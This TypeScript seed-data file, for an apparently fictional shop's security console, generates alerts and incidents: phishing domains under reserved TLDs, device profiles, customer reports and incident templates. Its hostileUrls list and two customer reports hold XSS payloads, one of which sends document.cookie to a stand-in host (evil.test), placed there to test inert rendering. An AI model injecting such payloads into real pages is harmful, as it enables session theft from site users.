import type { AlertSeverity, AlertType } from '@/shared/contract/alerts';
import type { IncidentSeverity, IncidentStatus } from '@/shared/contract/incidents';

/**
 * The words the alert and incident seeds are made of. Alerts draw a title template, a place, a
 * phishing domain or a customer's report from these lists by their own seed, so a title or a piece
 * of evidence is the same on every machine and costs nothing to keep. Domains are under reserved
 * TLDs (`.example`, `.test`, `.invalid`), so no generated link can ever reach a real site.
 *
 * Some URLs and reports carry markup (`<img src=x onerror=…>`, `<script>`): customers paste odd
 * things and attackers craft links on purpose, and the console must show them as inert text.
 */

export const alertTypeLabels: Record<AlertType, string> = {
  phishing_url: 'Phishing link',
  new_device: 'New device',
  anomalous_login: 'Unusual sign-in',
  credential_stuffing: 'Credential stuffing',
  account_takeover: 'Possible account takeover',
  mac_spoofing: 'MAC address spoofing',
  user_report: 'Customer report',
};

/** `{place}`, `{domain}`, `{device}` and `{count}` are filled in per alert. */
export const titleTemplates: Record<AlertType, readonly string[]> = {
  phishing_url: [
    'Phishing link imitating the shop sent to the customer: {domain}',
    'Look-alike checkout page reported: {domain}',
    'Customer clicked a fake order-tracking link ({domain})',
  ],
  new_device: [
    'Sign-in from a new {device} in {place}',
    'New {device} added to the account from {place}',
    'First sign-in from an unknown {device}',
  ],
  anomalous_login: [
    'Sign-in from {place}, far from the usual location',
    'Impossible travel: two sign-ins {count} km apart within an hour',
    'Sign-in at an unusual hour from {place}',
  ],
  credential_stuffing: [
    '{count} failed sign-ins with leaked passwords in 10 minutes',
    'Password spraying from {place} hit this account',
    'Sign-in attempts from a known credential-stuffing botnet',
  ],
  account_takeover: [
    'Email and password changed minutes after a sign-in from {place}',
    'Saved card used from a new {device} right after a password reset',
    'Delivery address changed and a large order placed from {place}',
  ],
  mac_spoofing: [
    'Device MAC address seen on {count} accounts at once',
    'Trusted {device} MAC address reused by another device',
    'MAC address changed between two requests of one session',
  ],
  user_report: [
    'Customer reports an order they did not place',
    'Customer reports a suspicious email about their account',
    'Customer reports they cannot sign in any more',
  ],
};

export const places = [
  { city: 'Lagos', country: 'NG' },
  { city: 'Shanghai', country: 'CN' },
  { city: 'São Paulo', country: 'BR' },
  { city: 'Moscow', country: 'RU' },
  { city: 'Frankfurt', country: 'DE' },
  { city: 'Ho Chi Minh City', country: 'VN' },
  { city: 'Jakarta', country: 'ID' },
  { city: 'Bucharest', country: 'RO' },
  { city: 'Ashburn', country: 'US' },
  { city: 'Amsterdam', country: 'NL' },
  { city: 'Manila', country: 'PH' },
  { city: 'Lima', country: 'PE' },
  { city: 'Tokyo', country: 'JP' },
  { city: 'London', country: 'GB' },
  { city: 'Paris', country: 'FR' },
] as const;

export const phishingDomains = [
  'digfashions-support.example',
  'secure-login.digfashions-verify.test',
  'dig-fashions.invalid',
  'track-my-parcel.example',
  'digfashion-refunds.test',
  'account-check.shop-verify.example',
  'giftcard-winner.test',
] as const;

export const phishingPaths = [
  '/login?next=/account',
  '/verify/account?id=48213',
  '/refund/claim',
  '/parcel/track?code=DF7781203',
  '/gift?src=sms',
] as const;

/** Links that carry markup in their query string; the console must print them, never run them. */
export const hostileUrls = [
  'https://digfashions-support.example/login?next=<script>alert(document.cookie)</script>',
  'https://track-my-parcel.example/t?q="><img src=x onerror=alert(1)>',
  'javascript:alert(1)//https://digfashions-support.example/',
] as const;

export const deviceProfiles = [
  { kind: 'mobile', os: 'Android 14', browser: 'Chrome 131', oui: '3C:22:FB' },
  { kind: 'mobile', os: 'iOS 18', browser: 'Safari 18', oui: 'F0:18:98' },
  { kind: 'desktop', os: 'Windows 11', browser: 'Edge 131', oui: '00:1A:2B' },
  { kind: 'desktop', os: 'macOS 15', browser: 'Firefox 133', oui: 'A4:83:E7' },
  { kind: 'tablet', os: 'iPadOS 18', browser: 'Safari 18', oui: '28:CF:E9' },
  { kind: 'desktop', os: 'Linux', browser: 'Chrome 120 (headless)', oui: '52:54:00' },
] as const;

export const deviceWords: Record<(typeof deviceProfiles)[number]['kind'], string> = {
  mobile: 'phone',
  desktop: 'computer',
  tablet: 'tablet',
};

/** What customers write to support, in their words; two carry markup pasted from somewhere. */
export const customerReports = [
  'I got an email saying my order was cancelled and I had to re-enter my card details. I did not order anything this week.',
  'Someone changed my delivery address to a place in another city. I never did that!',
  'There is an order for three pairs of trainers on my account that I did not place. Please stop it.',
  'I cannot sign in any more, it says my password is wrong but I did not change it.',
  'Got an SMS with a link to "claim my refund" — is that really you? I clicked it and typed my password.',
  'My account shows a new phone I do not own. <img src=x onerror=alert(1)>',
  'Copied from the email I got: <script>fetch("https://evil.test/?c="+document.cookie)</script> please check',
  'My loyalty points are gone and I did not spend them.',
] as const;

export const customerReportsWithMarkup = [5, 6] as const;

export const evidenceSteps: Record<AlertType, readonly string[]> = {
  phishing_url: [
    'Email with a link to a look-alike sign-in page delivered to the customer',
    'Customer opened the link',
    'Link domain matched the phishing feed',
    'Sign-in attempted with the customer’s password from a new address',
  ],
  new_device: [
    'Sign-in from a device never seen on this account',
    'One-time code sent by email',
    'Code entered correctly',
    'Device kept signed in',
  ],
  anomalous_login: [
    'Successful sign-in from the usual location',
    'Successful sign-in from a distant location',
    'Risk engine flagged the travel speed',
  ],
  credential_stuffing: [
    'Burst of failed sign-ins from rotating addresses',
    'Addresses matched a credential-stuffing list',
    'Rate limit engaged for the account',
    'One sign-in succeeded',
  ],
  account_takeover: [
    'Password reset requested',
    'Sign-in from a new device',
    'Email address changed',
    'Delivery address changed',
    'Order placed with the saved card',
  ],
  mac_spoofing: [
    'Device MAC address recorded at sign-in',
    'Same MAC address reported by a different device fingerprint',
    'Session continued with the other fingerprint',
  ],
  user_report: [
    'Customer contacted support',
    'Support agent logged the report',
    'Report attached to the account',
  ],
};

export const severityRank: Record<AlertSeverity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

/** Seeded notes analysts leave when they close an alert. */
export const dismissNotes = [
  'Customer confirmed it was them on holiday; nothing to do.',
  'Known corporate VPN exit node, not a threat.',
  'Duplicate of an alert already handled for this account.',
  'Test traffic from our own QA team.',
] as const;

export const resolveNotes = [
  'Password reset forced and the customer informed.',
  'Sessions revoked; customer set a new password by phone.',
  'Phishing domain reported to the registrar and blocked at the mail gateway.',
  'Order cancelled before shipping, card issuer informed.',
] as const;

export interface IncidentTemplate {
  readonly title: string;
  readonly severity: IncidentSeverity;
  readonly nature: string;
  readonly cause: string;
  readonly dataCategories: readonly string[];
  readonly likelyConsequences: string;
  readonly measuresTaken: string;
}

export const incidentTemplates: readonly IncidentTemplate[] = [
  {
    title: 'Credential-stuffing wave against customer sign-in',
    severity: 'high',
    nature:
      'Automated sign-in attempts with email and password pairs leaked elsewhere; a share of them succeeded on accounts that reuse passwords.',
    cause: 'Passwords reused from third-party breaches; no second factor required at sign-in.',
    dataCategories: ['contact details', 'order history', 'delivery addresses'],
    likelyConsequences:
      'Attackers could read order history and addresses, and place orders with saved cards on the accounts they entered.',
    measuresTaken:
      'Rate limits tightened, affected accounts locked and their passwords reset, customers told to choose a new password.',
  },
  {
    title: 'Phishing campaign imitating the shop’s refund emails',
    severity: 'medium',
    nature:
      'Emails and text messages styled as refund notices led customers to a look-alike sign-in page that collected passwords.',
    cause: 'Look-alike domains registered by a third party; customers’ contact details likely from an older leak.',
    dataCategories: ['contact details', 'account credentials'],
    likelyConsequences: 'Customers who typed their password there may lose access to their account or have orders placed.',
    measuresTaken:
      'Takedown requests sent for the domains, a warning shown at sign-in, passwords of customers who clicked reset.',
  },
  {
    title: 'Account takeovers followed by delivery address changes',
    severity: 'critical',
    nature:
      'Accounts were entered, their delivery address changed and orders placed with the saved payment card within minutes.',
    cause: 'Session cookies stolen by malware on customers’ own computers.',
    dataCategories: ['contact details', 'delivery addresses', 'order history', 'payment card (last four digits)'],
    likelyConsequences: 'Financial loss for customers until orders are cancelled; exposure of home addresses.',
    measuresTaken:
      'Orders held before shipping, sessions revoked, address changes now confirmed by email before they take effect.',
  },
  {
    title: 'Spoofed device identifiers on the in-store Wi-Fi',
    severity: 'low',
    nature:
      'Several devices presented the same MAC address to the shop’s in-store Wi-Fi and app, hiding which customer was signed in.',
    cause: 'A Wi-Fi hotspot tool that randomises and clones MAC addresses.',
    dataCategories: ['device identifiers'],
    likelyConsequences: 'Little for customers; device-based fraud signals were unreliable for those accounts.',
    measuresTaken: 'Device trust no longer relies on the MAC address alone.',
  },
  {
    title: 'Customer reports of orders they did not place',
    severity: 'high',
    nature: 'A cluster of customers reported orders on their accounts that they had not placed.',
    cause: 'Under investigation.',
    dataCategories: ['order history', 'delivery addresses'],
    likelyConsequences: 'Unwanted charges and deliveries to unknown addresses.',
    measuresTaken: 'Orders refunded, accounts locked pending a password reset.',
  },
  {
    title: 'Sign-ins from a hosting provider’s address range',
    severity: 'medium',
    nature: 'Unusual sign-ins to customer accounts from a cloud hosting range not used by real shoppers.',
    cause: 'A scraping tool using valid sessions bought from a credential market.',
    dataCategories: ['contact details', 'order history'],
    likelyConsequences: 'Order histories and contact details read by a third party.',
    measuresTaken: 'The address range is blocked at the edge; affected sessions revoked.',
  },
];

export interface SeededIncidentShape {
  readonly template: number;
  readonly status: IncidentStatus;
  /** Days before the anchor the shop became aware. */
  readonly awareDaysAgo: number;
}
